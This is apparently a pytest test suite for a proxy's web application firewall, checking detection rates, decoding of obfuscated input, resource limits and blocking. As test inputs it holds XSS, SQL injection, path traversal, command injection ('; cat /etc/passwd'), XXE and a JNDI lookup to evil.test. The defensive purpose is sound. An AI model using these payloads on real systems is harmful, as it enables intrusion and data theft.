"""The firewall: how much it catches, how much it lets pass, and that no server sees what it refuses."""

from __future__ import annotations

import base64
import contextlib
import gzip
import json
import logging
import string
import zlib
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from hypothesis.errors import InvalidArgument

from proxycore.config import Config, Listener, Logging, Route, Upstream, Waf
from proxycore.policies.waf.inspection import Inspector, Verdict
from proxycore.policies.waf.normalising import normalise_text, normalise_value
from proxycore.policies.waf.rules import RULES
from proxycore.program.access_log import AccessLog
from proxycore.testing import Proxy
from proxycore.testing.playbook import (
    Handle,
    Playbook,
    accepted,
    connect,
    exchange_ended,
    nothing,
    received,
    send,
    starting,
)
from proxycore.words.messages import Headers, RequestHead
from proxycore.words.notices import AttackFound
from tests.gate.corpora import corpus, spellings


def blocks(inspector: Inspector, head: RequestHead, content: bytes) -> bool:
    verdicts = [inspector.head(head), inspector.body(head, content) if content else None]
    return sum(verdict.score for verdict in verdicts if verdict is not None) >= inspector.threshold


def blocked(name: str, **waf: Any) -> tuple[int, int]:
    """How many requests of a corpus are refused, and how many it has."""
    inspector = Inspector(Waf(**waf))
    outcomes = [blocks(inspector, head, content) for _, head, content in corpus(name)]
    return sum(outcomes), len(outcomes)


# ---- the figures of README.md and docs/gate.md: who changes one changes them all


def test_attacks_that_the_rules_were_written_from_are_caught() -> None:
    assert blocked("attacks-known.txt") == (70, 70)


def test_of_attacks_that_no_rule_was_written_from_most_are_caught() -> None:
    assert blocked("attacks-held-out.txt") == (104, 104)


def test_honest_requests_pass() -> None:
    assert blocked("honest.txt") == (0, 235)


def test_a_higher_level_catches_no_less_and_errs_more() -> None:
    caught = [blocked("attacks-held-out.txt", level=level) for level in (1, 2, 3, 4)]
    erred = [blocked("honest.txt", level=level) for level in (1, 2, 3, 4)]
    assert caught == sorted(caught)
    assert erred == sorted(erred)
    assert erred[0] < erred[3]


def test_ids_are_unique_and_can_be_excluded() -> None:
    assert len({rule.id for rule in RULES}) == len(RULES)
    head = RequestHead(b"GET", b"/?q=1%27%20or%20%271%27=%271", b"a", Headers())
    verdict = Inspector(Waf()).head(head)
    assert verdict is not None
    assert {finding.rule.id for finding in verdict.findings} == {"942100"}
    assert Inspector(Waf(exclude=["942100"])).head(head) is None


# ---- normalisation

SPELLINGS = [
    b"<script>alert(1)</script>",
    b"%3Cscript%3Ealert(1)%3C/script%3E",
    b"%253Cscript%253Ealert(1)",
    b"%25253Cscript%25253Ealert(1)",
    b"&lt;script&gt;alert(1)",
    b"&#x3c;script&#62;alert(1)",
    b"%u003cscript%u003ealert(1)",
    b"\\x3cscript\\x3ealert(1)",
    b"\\u003cscript\\u003ealert(1)",
    b"%C0%BCscript%C0%BEalert(1)",
    "\uff1cscript\uff1ealert(1)".encode(),
    b"<ScRiPt>alert(1)",
    b"< script >alert(1)",
]


@pytest.mark.parametrize("spelling", SPELLINGS)
def test_no_spelling_hides_an_attack(spelling: bytes) -> None:
    verdict = Inspector(Waf()).head(RequestHead(b"GET", b"/?q=" + spelling.replace(b"&", b"%26"), b"a", Headers()))
    assert verdict is not None
    assert "941110" in {finding.rule.id for finding in verdict.findings}


@pytest.mark.parametrize(("form", "spelling", "normal"), list(spellings()))
def test_each_spelling_of_the_corpus_has_its_normal_form(form: str, spelling: bytes, normal: str) -> None:
    assert getattr(normalise_value(spelling, plus_is_blank=True), form) == normal


@settings(max_examples=50)
@given(st.text(max_size=60), st.integers(0, 3))
def test_however_often_it_is_encoded_a_text_says_the_same(text: str, rounds: int) -> None:
    plain = normalise_text(text).text
    encoded = text.encode()
    # What is itself an encoding is undone as far as the rounds go: then there is one less for ours.
    if b"%" in encoded or b"\xc0" in encoded:
        return
    for _ in range(rounds):
        encoded = b"".join([b"%%%02X" % byte for byte in encoded])
    assert normalise_value(encoded, plus_is_blank=False).text == plain


@given(st.binary(max_size=300))
def test_normal_forms_are_no_longer_than_twice_what_came(value: bytes) -> None:
    assert len(normalise_value(value, plus_is_blank=True).text) <= 2 * len(value) + 2


# ---- what isn't read by the rules must hold nothing for them

_LETTERS = string.ascii_letters + string.digits
PLAIN_SIGNS = {"query": " .,:@_-~", "path": "/_-.,@~", "header": " _.,:/+=?@~-;"}


def shapes(place: str) -> list[st.SearchStrategy[str]]:
    """For each rule of the first level, texts that it finds and that have plain signs only."""
    found = []
    for rule in RULES:
        if rule.level == 1 and place in rule.places:
            strategy = st.from_regex(rule.pattern, alphabet=_LETTERS + PLAIN_SIGNS[place])
            with contextlib.suppress(InvalidArgument):
                strategy.validate()
                found.append(strategy)
    return found


@pytest.mark.parametrize("place", PLAIN_SIGNS)
@settings(max_examples=100, deadline=None, suppress_health_check=list(HealthCheck))
@given(data=st.data())
def test_plain_values_that_are_passed_over_hold_nothing_that_a_rule_would_find(place: str, data: st.DataObject) -> None:
    text = data.draw(st.one_of(*_shapes[place]))
    if text.replace(" ", "").isalnum():
        return  # words alone: they are no attack, whatever a rule would say
    value = text.encode()
    thorough: Any = Inspector(Waf())
    thorough._is_plain = thorough._is_words = thorough._is_plain_path = thorough._is_plain_field = lambda value: None
    for head in {
        "query": [head_of(b"/?q=" + value.replace(b" ", b"+")), head_of(b"/?" + value.replace(b" ", b"+") + b"=1")],
        "path": [head_of(b"/" + value)],
        "header": [head_of(b"/", (b"x-a", value))],
    }[place]:
        assert Inspector(Waf()).head(head) == thorough.head(head)


_shapes = {place: shapes(place) for place in PLAIN_SIGNS}


def head_of(target: bytes, *fields: tuple[bytes, bytes]) -> RequestHead:
    return RequestHead(b"GET", target, b"a", Headers(list(fields)))


@pytest.mark.parametrize(
    ("rule", "head"),
    [
        ("944100", head_of(b"/?class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp")),
        ("934100", head_of(b"/?constructor.prototype.admin=true")),
        ("941180", head_of(b"/?q=document.cookie")),
        ("930120", head_of(b"/proc/self/environ")),
        ("930130", head_of(b"/server-status")),
        ("930110", head_of(b"/", (b"x-file", b"../../etc/passwd"))),
        ("931100", head_of(b"/", (b"x-file", b"php://input"))),
        ("932100", head_of(b"/", (b"x-host", b"a; cat /etc/passwd"))),
        ("942100", head_of(b"/", (b"x-id", b'a" or "1"="1'))),
    ],
)
def test_attacks_of_letters_and_plain_signs_are_found(rule: str, head: RequestHead) -> None:
    verdict = Inspector(Waf()).head(head)
    assert verdict is not None
    assert rule in {finding.rule.id for finding in verdict.findings}


# ---- a bound on work


ODD = "it's (a) text; of <odd> signs "


@pytest.mark.parametrize(
    ("content", "media_type"),
    [
        (b"&".join([b"a=" + ODD.encode()] * 700), "application/x-www-form-urlencoded"),
        (b"&" * 20_000, "application/x-www-form-urlencoded"),
        (json.dumps([ODD] * 700).encode(), "application/json"),
        (b'["' + b'","' * 20_000, "application/json"),
        (b"\r\n--x\r\n\r\n's" * 6_000, "multipart/form-data; boundary=x"),
    ],
)
def test_more_than_a_request_may_hold_is_an_attack_of_its_own(content: bytes, media_type: str) -> None:
    verdict = post(content[:65_536], media_type)
    assert verdict is not None
    assert ([finding.rule.id for finding in verdict.findings], verdict.score) == (["920390"], 5)


def test_a_head_may_hold_no_more_either_and_whatever_the_threshold_is_it_is_reached() -> None:
    fields = [(b"x-%d" % number, ODD.encode() * 20) for number in range(60)]
    verdict = Inspector(Waf(threshold=50)).head(head_of(b"/", *fields))
    assert verdict is not None
    assert verdict.score == 50


@pytest.mark.parametrize("padding", [5_000, 7_670, 8_180, 9_000, 12_000])
@pytest.mark.parametrize("sign", ["a", "("])
def test_padding_hides_no_attack_in_a_head(padding: int, sign: str) -> None:
    inspector = Inspector(Waf())
    text = (sign * padding + "<script>alert(1)</script>").encode()
    for head in (
        RequestHead(b"GET", b"/?q=" + text, b"h", Headers([])),
        RequestHead(b"GET", b"/", b"h", Headers([(b"x-text", text)])),
        RequestHead(b"GET", b"/", b"h", Headers([(b"user-agent", text)])),
        RequestHead(b"GET", b"/", b"h", Headers([(b"cookie", b"a=" + text)])),
    ):
        for _ in range(2):
            verdict = inspector.head(head)
            assert verdict is not None
            assert any(finding.rule.id != "920390" for finding in verdict.findings)


def test_the_budget_is_a_share_of_the_window_and_excluded_it_bounds_in_silence() -> None:
    content = json.dumps([ODD] * 700).encode()
    head = RequestHead(b"POST", b"/", b"a", Headers([(b"content-type", b"application/json")]), length=len(content))
    assert Inspector(Waf(body="256KiB")).body(head, content) is None
    assert Inspector(Waf(exclude=["920390"])).body(head, content) is None


def test_much_that_is_plain_and_one_long_text_pass() -> None:
    assert (
        post(json.dumps([{"id": n, "name": "Anna Maria"} for n in range(1_500)]).encode(), "application/json") is None
    )
    assert post(json.dumps({"text": ODD * 1_500}).encode(), "application/json") is None


def test_what_is_beyond_the_budget_is_refused_or_noted() -> None:
    content = json.dumps([ODD] * 700).encode()
    fields = {"Content-Type": "application/json"}
    Proxy(configuration()).post("http://a/", headers=fields, body=content).is_refused(403, rule="waf.920390")
    noted = Proxy(configuration(mode="detect")).post("http://a/", headers=fields, body=content).goes_to("api")
    assert "920390" in noted.trace.render()


@settings(max_examples=200)
@given(
    st.one_of(
        st.binary(max_size=300),
        st.sampled_from(SPELLINGS).flatmap(lambda s: st.binary(max_size=20).map(lambda b: s + b + s)),
    )
)
def test_whatever_comes_is_read_without_an_exception(data: bytes) -> None:
    inspector = Inspector(Waf(level=4))
    target = b"/" + data.replace(b" ", b"+")
    for media_type in (
        b"application/json",
        b"multipart/form-data; boundary=x",
        b"application/x-www-form-urlencoded",
        b"",
    ):
        fields = [(b"cookie", data), (b"x-a", data), (b"user-agent", data), (b"content-type", media_type)]
        head = RequestHead(b"POST", target, b"a", Headers(fields), length=len(data))
        inspector.head(head)
        inspector.body(head, data)


@pytest.mark.parametrize(
    "sign", ["a", "(", "'", "<", "a ", "../", "; ", "{{", "' or ", "/*", "%25", "&#", "select ", "\\", "on"]
)
def test_no_value_takes_long(sign: str) -> None:
    """Patterns that backtrack without bounds would stop the server for as long as an attacker likes."""
    inspector = Inspector(Waf(level=4))
    value = (sign * 8192)[:8192].replace(" ", "+").replace("&", "%26").replace("#", "%23")
    for _ in range(3):
        inspector.head(RequestHead(b"GET", b"/?q=" + value.encode(), b"a", Headers()))


# ---- content

SQLI = "1' or '1'='1"


def post(content: bytes, media_type: str, **fields: str) -> Verdict | None:
    given = [
        (b"content-type", media_type.encode()),
        *((n.replace("_", "-").encode(), v.encode()) for n, v in fields.items()),
    ]
    return Inspector(Waf()).body(RequestHead(b"POST", b"/", b"a", Headers(given), length=len(content)), content)


@pytest.mark.parametrize(
    ("content", "media_type"),
    [
        (b"a=b&c=1%27+or+%271%27%3D%271", "application/x-www-form-urlencoded"),
        (json.dumps({"a": [{"b": SQLI}]}).encode(), "application/json"),
        (b'{"a": "' + SQLI.encode() + b'", "cut', "application/problem+json"),
        (b'{"a": "1\\u0027 or \\u00271\\u0027=\\u00271"}', "application/json; charset=utf-8"),
        (
            b'--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n' + SQLI.encode() + b"\r\n--x--",
            "multipart/form-data; boundary=x",
        ),
        (
            b'--x\r\nContent-Disposition: form-data; name="f"; filename="../../etc/passwd"\r\n\r\nx\r\n--x--',
            'multipart/form-data; boundary="x"',
        ),
        (b"<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>", "application/xml"),
    ],
)
def test_forms_json_and_parts_are_read(content: bytes, media_type: str) -> None:
    assert post(content, media_type) is not None


def test_compressed_content_is_read_as_well() -> None:
    content = b"a=" + b"x" * 500 + b"&c=1%27+or+%271%27%3D%271"
    coder = zlib.compressobj(wbits=31)
    packed = coder.compress(content) + coder.flush()
    assert post(packed, "application/x-www-form-urlencoded", content_encoding="gzip") is not None


def test_deflate_without_its_head_is_read_as_well() -> None:
    coder = zlib.compressobj(wbits=-15)
    packed = coder.compress(b"c=1%27+or+%271%27%3D%271") + coder.flush()
    assert post(packed, "application/x-www-form-urlencoded", content_encoding="deflate") is not None


def test_no_more_is_unpacked_than_is_read_of_any_content() -> None:
    coder = zlib.compressobj(wbits=31)
    packed = coder.compress(b"x" * 70_000 + b"&c=1%27+or+%271%27%3D%271") + coder.flush()
    assert len(packed) < 500
    assert post(packed, "application/x-www-form-urlencoded", content_encoding="gzip") is None


@pytest.mark.parametrize("coding", ["br", "zstd", "gzip, gzip"])
def test_content_in_a_coding_that_rules_cannot_read_is_refused(coding: str) -> None:
    fields = {"Content-Type": "application/json", "Content-Encoding": coding}
    refused = Proxy(configuration(mode="block")).post("http://a/", headers=fields, body=b"{}")
    refused.is_refused(415, rule="waf.coding").gets(accept_encoding="gzip, deflate")
    noted = Proxy(configuration(mode="detect")).post("http://a/", headers=fields, body=b"{}").goes_to("api")
    assert [(step.verdict, step.reason) for step in noted.trace.of("waf")] == [
        ("let in", "content in a coding that rules can't read")
    ]


@pytest.mark.parametrize(
    ("fields", "rule"),
    [
        ({"Content-Type": "application/json", "Content-Encoding": "br"}, "coding"),
        ({"Content-Type": "multipart/form-data"}, "content_type"),
    ],
)
def test_detect_tells_of_content_that_cannot_be_read(
    fields: dict[str, str], rule: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    proxy = Proxy(configuration(mode="detect"))
    told: list[object] = []
    proxy.core.watch(["attacks"])
    monkeypatch.setattr(proxy, "_notice", told.extend)
    proxy.post("http://a/", headers=fields, body=b"{}").goes_to("api")
    (attack,) = told
    assert isinstance(attack, AttackFound)
    assert (attack.blocked, attack.findings[0][0]) == (False, rule)


def test_a_files_own_content_is_not_read() -> None:
    part = (
        b'--x\r\nContent-Disposition: form-data; name="f"; filename="notes.txt"\r\n\r\n' + SQLI.encode() + b"\r\n--x--"
    )
    assert post(part, "multipart/form-data; boundary=x") is None


# ---- in the proxy


def configuration(**waf: Any) -> Config:
    return Config(
        listeners=[Listener(name="web", bind="127.0.0.1:8080")],
        upstreams={"api": Upstream(servers="http://127.0.0.1:3000")},
        routes=[Route(name="shop", upstream="api", waf=waf)],
    )


def test_an_attack_is_refused_and_told_nothing() -> None:
    journey = Proxy(configuration(mode="block")).get("http://a/?q=<script>alert(1)</script>")
    journey.is_refused(403, rule="waf.941110")
    assert b"script" not in journey.body
    assert "waf: found 941110 (script element in query" in journey.trace.render()


def test_detect_lets_pass_and_off_does_not_look() -> None:
    found = Proxy(configuration(mode="detect")).get("http://a/?q=<script>").goes_to("api")
    assert found.trace.of("waf")
    assert not Proxy(configuration(mode="off")).get("http://a/?q=<script>").goes_to("api").trace.of("waf")


def test_a_threshold_asks_for_more_than_one_rule() -> None:
    guarded = Proxy(configuration(threshold=10))
    guarded.get("http://a/?q=<script>").goes_to("api")
    guarded.get("http://a/?q=<script>&r=../../etc/passwd").is_refused(403)


def test_no_server_sees_any_of_a_request_with_an_attack_in_its_body() -> None:
    client = Handle("client")
    body = b"comment=1%27+or+%271%27%3D%271"
    head = (
        b"POST / HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\n\r\n"
        % len(body)
    )
    Playbook(configuration()).run(
        accepted(client) >> nothing,
        received(client, head) >> nothing,
        received(client, body[:20]) >> nothing,
        received(client, body[20:])
        >> (send(client, starting(b"HTTP/1.1 403 ")), exchange_ended("refused", "waf.942100")),
    )


def test_an_honest_body_goes_on_when_it_was_read() -> None:
    client, server = Handle("client"), Handle("server")
    head = b"POST / HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 13\r\n\r\n"
    Playbook(configuration()).run(
        accepted(client) >> nothing,
        received(client, head) >> nothing,
        received(client, b'{"a":"O\'Neil"}'[:13]) >> connect(server, ("127.0.0.1", 3000)),
    )


def test_an_upload_of_an_image_does_not_wait() -> None:
    client, server = Handle("client"), Handle("server")
    head = b"PUT / HTTP/1.1\r\nHost: a\r\nContent-Type: image/png\r\nContent-Length: 1000\r\n\r\n"
    Playbook(configuration()).run(
        accepted(client) >> nothing, received(client, head) >> connect(server, ("127.0.0.1", 3000))
    )


def test_what_was_found_is_logged_in_one_line_whatever_it_holds(caplog: pytest.LogCaptureFixture) -> None:
    log = AccessLog(Logging(access="off"), source="")
    finding = ("941110", "script element", 'query "q"', "<script\n\x1b[31m")
    attack = AttackFound(
        0.0, client="192.0.2.1", route="shop", request_id="7", score=5, blocked=True, findings=[finding]
    )
    with caplog.at_level(logging.WARNING):
        log.observe([attack])
    assert caplog.messages == [
        "attack blocked, score 5: rule 941110 (script element) in query \"q\": '<script\\n\\x1b[31m'; "
        "request 7 of 192.0.2.1, route shop"
    ]


# ---- content that servers read in another way


SCRIPT = b"<script>alert(1)</script>"
UPLOAD = b'--B\r\nContent-Disposition: form-data; name="f"; filename="a"\r\n\r\nx'
FIELD = b'Content-Disposition: form-data; name="q"'


@pytest.mark.parametrize(
    "content",
    [
        b"--B\r\n" + FIELD + b"\r\n\r\n" + SCRIPT,
        b"--B\n" + FIELD + b"\n\n" + SCRIPT + b"\n--B--\n",
        b"--B\r\n" + FIELD + b"\r\nX-Note: ;filename=x\r\n\r\n" + SCRIPT,
        b"--B\r\n" + FIELD + b"; filename*=x\r\n\r\n" + SCRIPT,
        b"--B\r\n" + FIELD[:-1] + b'\\"; filename=x"\r\n\r\n' + SCRIPT,
        b"--B\r\n" + FIELD[:-1] + b"; filename=x\r\n\r\n" + SCRIPT,
        b"--B\r\n" + FIELD + b"; filename=x\r\n" + FIELD + b"\r\n\r\n" + SCRIPT,
        b"--B\r\n" + FIELD + b"\r\nContent-Transfer-Encoding: base64\r\n\r\n" + base64.b64encode(SCRIPT),
        b"--B\r\n" + FIELD + b"\r\n\r\nx--B\r\n" + UPLOAD[5:] + SCRIPT,
        UPLOAD + b"\r\n--Bx\r\n" + FIELD + b"\r\n\r\n" + SCRIPT,
        b'--B\r\nContent-Disposition: form-data; name="f"; filename="a;../../etc/passwd"\r\n\r\nx',
        b'--B\r\nContent-Disposition: form-data; name="a;' + SCRIPT + b'"\r\n\r\nx',
    ],
)
def test_no_field_of_a_form_passes_for_a_file(content: bytes) -> None:
    assert post(content, "multipart/form-data; boundary=B") is not None


def test_files_are_not_read() -> None:
    assert post(UPLOAD + SCRIPT + b"\r\n--B--\r\n", "multipart/form-data; boundary=B") is None


@pytest.mark.parametrize(
    "media_type",
    [
        ["image/png", "application/json"],
        "multipart/form-data",
        "multipart/form-data; xboundary=A; boundary=B",
        "multipart/form-data; boundary=A; boundary=B",
        "application/x-www-form-urlencoded; charset=utf-7",
        'application/json;charset="IBM037"',
    ],
)
def test_content_that_servers_read_in_several_ways_is_refused(media_type: Any) -> None:
    journey = Proxy(configuration(mode="block")).request(
        "POST", "http://a/", headers={"Content-Type": media_type}, body=b"a"
    )
    journey.is_refused(400, rule="waf.content_type")


@pytest.mark.parametrize("content", [b'/* " */{"q":"<script>"}', b"{'q':'<script>'}", b"q=<script>", b'{"q":"<script>'])
def test_what_is_no_strict_json_is_read_all_the_same(content: bytes) -> None:
    assert post(content, "application/json") is not None


@pytest.mark.parametrize(
    "content", [b'\xef\xbb\xbf[NaN, -Infinity, 1.5E+7, null, true, false, ""]', b'{"a": 1}\n{"b": "cut']
)
def test_json_says_nothing_between_its_strings(content: bytes) -> None:
    assert post(content, "application/json") is None


def test_packed_content_is_read_to_its_last_member_and_refused_where_it_cannot_be() -> None:
    head = {"Content-Type": "application/x-www-form-urlencoded", "Content-Encoding": "gzip"}
    packed = gzip.compress(b"a=1") + gzip.compress(b"&q=" + SCRIPT)
    guarded = Proxy(configuration(mode="block"))
    guarded.request("POST", "http://a/", headers=head, body=packed).is_refused(403, rule="waf.941110")
    damaged = packed[:-8] + b"0000" + packed[-4:]
    guarded.request("POST", "http://a/", headers=head, body=damaged).is_refused(415, rule="waf.coding")
    many = gzip.compress(b"") * 17
    guarded.request("POST", "http://a/", headers=head, body=many).is_refused(415, rule="waf.coding")
    assert (
        Proxy(configuration(mode="detect")).request("POST", "http://a/", headers=head, body=damaged).outbound
        is not None
    )


@pytest.mark.parametrize("name", [b"accept", b"authorization", b"date", b"origin"])
def test_what_loggers_look_up_is_found_in_fields_that_nobody_else_reads(name: bytes) -> None:
    assert Inspector(Waf()).head(head_of(b"/", (name, b"${jndi:ldap://evil.test/a}"))) is not None


def test_names_of_cookies_are_read() -> None:
    assert Inspector(Waf()).head(head_of(b"/", (b"cookie", b"a=1; " + SCRIPT + b"=1"))) is not None
